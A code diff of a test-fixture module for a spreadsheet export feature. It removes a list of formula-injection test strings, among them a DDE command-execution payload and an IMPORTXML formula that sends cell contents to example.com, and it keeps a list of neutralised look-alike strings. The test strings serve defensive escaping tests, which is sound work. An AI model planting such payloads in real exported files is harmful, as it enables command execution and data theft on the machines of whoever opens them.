@@ -1,4 +1,4 @@
-"""What the tests of the export share: the miniature county, one with payloads, one with a field for internal use."""
+"""What the tests of the export share: the miniature county, one with remarks, one with a field for internal use."""
 
 from __future__ import annotations
 
@@ -22,21 +22,6 @@ from ygt.schema.contract import Contract
 
 DAY = date(2026, 11, 21)
 SECRET = "不得外传的四字暗语"
-PAYLOADS = (
-    "=1+1",
-    '=HYPERLINK("http://example.com","点此")',
-    "=cmd|'/c calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(A1)",
-    '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
-)
 SIMILAR = ("'=1+1", "''=1+1", "'引号", "a=1", " \u3000=1+1", "\n=1", "1+1", "·", "'")
 """Texts that look like payloads, or like payloads made safe already."""
 
